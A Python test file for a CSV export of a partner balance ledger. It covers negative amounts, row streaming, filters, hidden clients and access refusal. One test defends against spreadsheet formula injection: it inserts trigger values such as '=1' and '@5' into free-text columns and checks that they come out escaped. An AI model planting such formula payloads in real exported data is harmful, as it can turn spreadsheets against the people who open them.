class Invented(PartnerBalance):
    """A ledger whose only row comes again, with amounts below zero, and with text from a joker."""

    def rows(self, books: ScopedBooks, now: Now, /) -> Iterator[BalanceRow]:
        (row,) = PartnerBalance.rows(self, books, now)
        yield row
        yield evolve(row, revenue_minor=-10_000, debitura_fee_minor=-5, debtor_payments_minor=-1)
        yield evolve(
            row,
            payout_id=None,
            revenue_item_id="item-1",
            debtor_payments_minor=None,
            client="=1",
            managed_by=ManagedBy("+2", "@3"),
            client_reference="-4",
            partner_reference="@5",
            debtor_name="\t6",
        )


def invented(*columns: str) -> list[list[str]]:
    """Write the invented ledger, and return its rows without the header."""
    with meeting() as cast:
        cast.case()
        cast.pay(eur("10"))
        file = StringIO(newline="")
        write_balance(cast.anna, Invented(columns=columns), file)
        file.seek(0)
        return list(csv.reader(file))[1:]


def test_an_amount_below_zero_stays_a_number() -> None:
    """Typed columns are the library's own and never guarded: -100.00 can be added up."""
    _, negative, item = invented("revenue", "debitura_fee", "debtor_payments", "see_more")
    assert negative[:3] == ["-100.00", "-0.05", "-0.01"]
    assert item[2:] == ["", "revenue-items/item-1", "EUR"]


def test_every_column_of_free_text_is_guarded() -> None:
    """Whoever may type into a column, nothing in it can turn into a formula."""
    text = "client", "managed_by", "client_reference", "partner_reference", "debtor_name"
    assert invented(*text)[2] == ["'=1", "'+2", "'-4", "'@5", "'\t6"]
    first, *_, last = invented(*[name for name in COLUMNS.names if name not in text])
    differing = [one for one, other in zip(last, first, strict=True) if one != other]
    assert differing == ["revenue-items/item-1", ""]


def test_a_row_is_written_before_the_next_is_drawn() -> None:
    """However long the ledger is, one row of it is held at a time."""
    with meeting() as cast:
        cast.case()
        cast.pay(eur("10"))
        file = StringIO(newline="")
        seen: list[int] = []

        class Watched(Invented):
            def rows(self, books: ScopedBooks, now: Now, /) -> Iterator[BalanceRow]:
                for row in super().rows(books, now):
                    seen.append(lines(file.getvalue()))
                    yield row

        assert write_balance(cast.anna, Watched(), file) == 3
        assert seen == [1, 2, 3]


@on_both_stores
def test_rows_of_hidden_clients_are_not_in_the_file(store: Opened) -> None:
    """A hidden client is left out of the file as it is out of the table, and comes back with it."""
    with meeting(store) as cast:
        cast.case()
        cast.case("CASE0002", client_id="baltic")
        cast.pay(eur("10"))
        cast.pay(eur("20"), "CASE0002")
        cast.anna.do(HideFromBalance(client_id="nordic"))
        assert [row["Client"] for row in exported(cast)] == ["Baltic Timber"]


def test_filters_and_order_of_the_query_are_those_of_the_file() -> None:
    """The file holds what the query selects, in its order, whatever page it asks for."""
    with meeting() as cast:
        cast.case()
        for day in range(1, 6):
            cast.pay(eur(f"{day}0"), received_on=date(2026, 2, day))
        rows = exported(
            cast,
            columns=("debtor_payments",),
            sort=BalanceSort.OLDEST_PAYMENT,
            filters=BalanceFilters(since=date(2026, 2, 2), until=date(2026, 2, 5)),
            limit=1,
        )
        assert [row["Debtor payments"] for row in rows] == ["20.00", "30.00", "40.00"]


def test_a_client_gets_no_file() -> None:
    """The ledger is the partner's; a client's desk is refused before anything is written."""
    with meeting() as cast:
        file = StringIO()
        with pytest.raises(NotAllowed):
            write_balance(cast.nora, PartnerBalance(), file)
        assert file.getvalue() == ""
